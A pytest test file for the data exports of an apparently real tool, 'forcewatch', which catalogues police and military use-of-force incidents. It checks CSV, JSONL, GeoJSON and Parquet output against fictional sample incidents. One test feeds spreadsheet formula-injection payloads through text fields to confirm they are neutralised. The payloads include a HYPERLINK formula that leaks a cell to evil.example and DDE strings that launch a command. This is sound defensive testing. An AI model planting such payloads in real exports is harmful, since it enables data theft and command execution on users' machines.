"""Exports: CSV, JSON Lines, GeoJSON and Parquet from Incident records written here."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from forcewatch import export as export_module
from forcewatch.errors import UsageError
from forcewatch.export import COLUMN_NAMES, COLUMNS, columns_markdown, export, row
from forcewatch.records import SCHEMA_VERSION, Incident, Quantity, Source
from tests.conftest import ROOT


def q(low: int | None, best: int | None = None, high: int | None = None) -> Quantity:
    return Quantity(low=low, best=best, high=high)


def source(document_id: int, **fields: Any) -> Source:
    return Source(document_id=document_id, mention_id=document_id * 10, **fields)


@pytest.fixture
def incidents() -> list[Incident]:
    return [
        Incident(
            id=1,
            status="verified",
            date="2019-03-02",
            date_precision="day",
            place='barrio "La Sierra", comuna 8',
            city="Medellín",
            admin1="CO-ANT",
            country="CO",
            lat=6.2442,
            lon=-75.5812,
            geo_precision=2,
            forces=["police", "military"],
            units=["ESMAD", "Ejército Nacional"],
            killed=q(2, 3, 4),
            injured=q(1, 1),
            agents_killed=q(1),
            operation="raid",
            allegations=["extrajudicial_execution", "cover_up"],
            people=["José Pérez (victim, killed)", "Ana Gómez (bystander, injured)"],
            sources=[
                source(
                    7,
                    url="https://example.org/a?x=1,2",
                    publisher="El Diario",
                    published="2019-03-04",
                ),
                source(8, url="https://mirror.example.net/a", publisher="Agencia", duplicate_of=7),
                source(
                    9,
                    url="https://otro.example.com/b",
                    publisher="El Diario",
                    published="2019-03-03",
                ),
            ],
            notes='Line one, with "quotes";\nline two — ñandú, São Gonçalo, 警察',
        ),
        Incident(id=2, date="--01-15", date_precision="day", country="BR", admin1="BR-RJ"),
        Incident(id=3, status="rejected"),
    ]


def written(incidents: list[Incident], fmt: Any) -> bytes:
    out = io.BytesIO()
    assert export(incidents, fmt, out) == len(incidents)
    return out.getvalue()


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def as_csv_text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


# --- columns ---------------------------------------------------------------------------------


def test_export_columns_declared_once_with_a_description() -> None:
    assert len(set(COLUMN_NAMES)) == len(COLUMNS)
    for column in COLUMNS:
        assert column.description.strip(), column.name
        assert column.type in ("string", "integer", "float", "boolean")


def test_export_columns_in_order() -> None:
    # Analysts' scripts select columns by name and spreadsheets by position: change with care.
    counts = [
        f"{who}_{bound}"
        for who in ("killed", "injured", "agents_killed", "agents_injured")
        for bound in ("low", "best", "high")
    ]
    expected = (
        "event_id",
        "event_date",
        "date_precision",
        "date_prec",
        "year",
        "country",
        "country_name",
        "admin1",
        "admin1_name",
        "location",
        "city",
        "latitude",
        "longitude",
        "geo_precision",
        "actor",
        "forces",
        "units",
        "operation",
        *counts,
        "fatalities_best",
        "allegations",
        "extrajudicial_execution",
        "sources_count",
        "source_urls",
        "source_publishers",
        "first_published",
        "notes",
        "review_status",
        "people",
    )
    assert expected == COLUMN_NAMES


def test_export_columns_doc_is_current() -> None:
    doc = ROOT / "docs" / "export-columns.md"
    assert doc.read_text(encoding="utf-8") == columns_markdown(), (
        "docs/export-columns.md is stale; regenerate it with "
        ".venv/bin/python -m forcewatch.export > docs/export-columns.md"
    )


def test_export_row_values(incidents: list[Incident]) -> None:
    values = row(incidents[0])
    assert values["event_id"] == "fw-1"
    assert values["country_name"] == "Colombia"
    assert values["admin1_name"] == "Antioquia"
    assert values["actor"] == "police"
    assert values["forces"] == "police;military"
    assert (values["killed_low"], values["killed_best"], values["killed_high"]) == (2, 3, 4)
    assert values["agents_killed_best"] is None
    assert values["fatalities_best"] == 4
    assert values["extrajudicial_execution"] is True
    assert values["sources_count"] == 2
    assert values["source_publishers"] == "El Diario;Agencia"
    assert values["first_published"] == "2019-03-03"
    assert values["review_status"] == "verified"


@pytest.mark.parametrize(
    ("date", "precision", "date_prec", "year"),
    [
        ("2019-03-02", "day", 1, 2019),
        ("2019-03-02", "week", 3, 2019),
        ("2019-03", "month", 4, 2019),
        ("2019", "year", 5, 2019),
        ("--01-15", "day", 1, None),
        (None, "unknown", None, None),
    ],
)
def test_export_date_precision_and_year(
    date: str | None, precision: Any, date_prec: int | None, year: int | None
) -> None:
    values = row(Incident(id=1, date=date, date_precision=precision))
    assert (values["date_precision"], values["date_prec"], values["year"]) == (
        precision,
        date_prec,
        year,
    )


@pytest.mark.parametrize(
    ("killed", "agents_killed", "expected"),
    [
        (q(3, 3), q(1), 4),
        (q(2), None, 2),
        (None, q(0), 0),
        (None, None, None),
        (q(None), None, None),
    ],
)
def test_export_fatalities_best(
    killed: Quantity | None, agents_killed: Quantity | None, expected: int | None
) -> None:
    incident = Incident(id=1, killed=killed, agents_killed=agents_killed)
    assert row(incident)["fatalities_best"] == expected


# --- CSV -------------------------------------------------------------------------------------


def test_export_csv_round_trip(incidents: list[Incident]) -> None:
    data = written(incidents, "csv")
    assert not data.startswith(b"\xef\xbb\xbf")
    records = read_csv(data)
    assert len(records) == 3
    assert list(records[0]) == list(COLUMN_NAMES)
    for incident, record in zip(incidents, records, strict=True):
        expected = {name: as_csv_text(value) for name, value in row(incident).items()}
        # "--01-15" starts with "-": the export neutralises it for spreadsheets.
        if expected["event_date"].startswith("-"):
            expected["event_date"] = "'" + expected["event_date"]
        assert record == expected
    assert records[0]["notes"] == incidents[0].notes
    assert records[0]["location"] == 'barrio "La Sierra", comuna 8'
    assert records[0]["longitude"] == "-75.5812"


def test_export_csv_rfc4180_line_ends(incidents: list[Incident]) -> None:
    data = written(incidents, "csv")
    header, _, _ = data.partition(b"\r\n")
    assert header.decode() == ",".join(COLUMN_NAMES)
    assert data.endswith(b"\r\n")
    # The only bare LF is the one inside the quoted notes cell.
    assert data.replace(b"\r\n", b"").count(b"\n") == 1


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
@pytest.mark.parametrize("field", ["notes", "place", "city", "units", "people"])
def test_export_csv_injection_neutralised(payload: str, field: str) -> None:
    value: Any = [payload] if field in ("units", "people") else payload
    incident = Incident(id=1, lon=-74.08, lat=4.6, **{field: value})
    record = read_csv(written([incident], "csv"))[0]
    column = {"place": "location"}.get(field, field)
    assert record[column] == "'" + payload
    assert record["longitude"] == "-74.08"


def test_export_csv_safe_text_untouched() -> None:
    incident = Incident(id=1, notes="Killed 2 - injured 3 = 5 harmed", place="Caracas")
    record = read_csv(written([incident], "csv"))[0]
    assert record["notes"] == "Killed 2 - injured 3 = 5 harmed"
    assert record["location"] == "Caracas"


def test_export_writes_to_a_path_and_leaves_a_stream_open(
    tmp_path: Path, incidents: list[Incident]
) -> None:
    path = tmp_path / "out.csv"
    assert export(incidents, "csv", path) == 3
    assert len(read_csv(path.read_bytes())) == 3
    stream = io.BytesIO()
    export(incidents, "csv", stream)
    assert not stream.closed
    stream.write(b"")


def test_export_unknown_format(incidents: list[Incident]) -> None:
    with pytest.raises(UsageError, match="csv, jsonl, geojson, parquet"):
        export(incidents, "xlsx", io.BytesIO())  # type: ignore[arg-type]


# --- JSON Lines and GeoJSON ------------------------------------------------------------------


def test_export_jsonl(incidents: list[Incident]) -> None:
    lines = written(incidents, "jsonl").decode("utf-8").splitlines()
    assert len(lines) == 3
    first = json.loads(lines[0])
    assert first["schema_version"] == SCHEMA_VERSION
    assert {k: v for k, v in first.items() if k in COLUMN_NAMES} == row(incidents[0])
    assert list(first)[1 : 1 + len(COLUMN_NAMES)] == list(COLUMN_NAMES)
    assert [s["document_id"] for s in first["sources"]] == [7, 8, 9]
    assert first["sources"][1]["duplicate_of"] == 7
    assert "São Gonçalo" in lines[0]
    assert json.loads(lines[2])["sources"] == []


def test_export_geojson_valid(incidents: list[Incident]) -> None:
    collection = json.loads(written(incidents, "geojson"))
    assert collection["type"] == "FeatureCollection"
    assert collection["schema_version"] == SCHEMA_VERSION
    features = collection["features"]
    assert [f["type"] for f in features] == ["Feature"] * 3
    placed, unplaced, _ = features
    assert placed["geometry"] == {"type": "Point", "coordinates": [-75.5812, 6.2442]}
    assert unplaced["geometry"] is None
    assert placed["id"] == "fw-1"
    assert set(COLUMN_NAMES) <= set(placed["properties"])
    assert placed["properties"]["event_id"] == "fw-1"
    assert "crs" not in collection


def test_export_geojson_empty() -> None:
    out = io.BytesIO()
    assert export([], "geojson", out) == 0
    assert json.loads(out.getvalue()) == {
        "type": "FeatureCollection",
        "schema_version": SCHEMA_VERSION,
        "features": [],
    }


def test_export_geojson_point_needs_both_coordinates() -> None:
    collection = json.loads(written([Incident(id=1, lat=4.6)], "geojson"))
    assert collection["features"][0]["geometry"] is None


# --- Parquet ---------------------------------------------------------------------------------


def test_export_parquet_round_trip(tmp_path: Path, incidents: list[Incident]) -> None:
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    path = tmp_path / "out.parquet"
    assert export(incidents, "parquet", path) == 3
    table = pq.read_table(path)
    assert table.column_names == [*COLUMN_NAMES, "sources_json"]
    schema = table.schema
    assert schema.field("event_id").type == pa.string()
    assert schema.field("killed_best").type == pa.int64()
    assert schema.field("latitude").type == pa.float64()
    assert schema.field("extrajudicial_execution").type == pa.bool_()
    assert schema.metadata[b"schema_version"] == SCHEMA_VERSION.encode()
    assert b"description" in schema.field("killed_best").metadata
    records = table.to_pylist()
    for incident, record in zip(incidents, records, strict=True):
        assert {k: v for k, v in record.items() if k in COLUMN_NAMES} == row(incident)
    assert [s["document_id"] for s in json.loads(records[0]["sources_json"])] == [7, 8, 9]


def test_export_parquet_row_groups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    monkeypatch.setattr(export_module, "PARQUET_ROW_GROUP", 3)
    path = tmp_path / "out.parquet"
    assert export((Incident(id=i) for i in range(7)), "parquet", path) == 7
    parquet = pq.ParquetFile(path)
    assert parquet.metadata.num_rows == 7
    assert parquet.num_row_groups == 3


def test_export_parquet_empty(tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    path = tmp_path / "out.parquet"
    assert export([], "parquet", path) == 0
    assert pq.read_table(path).num_rows == 0


def test_export_parquet_without_pyarrow_names_the_extra(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    path = tmp_path / "out.parquet"
    with pytest.raises(UsageError) as error:
        export([Incident(id=1)], "parquet", path)
    assert "pip install 'forcewatch[parquet]'" in error.value.line()
    assert "\n" not in error.value.line()
    assert not path.exists()


# --- streaming -------------------------------------------------------------------------------

N_STREAMED = 20_000


class Sink(io.RawIOBase):
    """A write-only stream that counts records as they arrive and keeps none of them."""

    def __init__(self, separator: bytes) -> None:
        self.separator = separator
        self.records = 0
        self.size = 0

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        chunk = bytes(data)
        self.records += chunk.count(self.separator)
        self.size += len(chunk)
        return len(chunk)


@pytest.mark.parametrize(
    ("fmt", "separator", "extra_lines"),
    [("csv", b"\r\n", 1), ("jsonl", b"\n", 0), ("geojson", b"\n", 0)],
)
def test_export_streams_without_materialising(fmt: Any, separator: bytes, extra_lines: int) -> None:
    sink = Sink(separator)
    most_behind = 0

    def generate() -> Iterator[Incident]:
        nonlocal most_behind
        for i in range(N_STREAMED):
            # Rows written so far must keep up with incidents handed out so far.
            most_behind = max(most_behind, i - (sink.records - extra_lines))
            yield Incident(id=i, date="2020-01-01", country="VE", killed=q(1), lat=10.5, lon=-66.9)

    assert export(generate(), fmt, sink) == N_STREAMED
    assert most_behind <= 2
    assert sink.records >= N_STREAMED
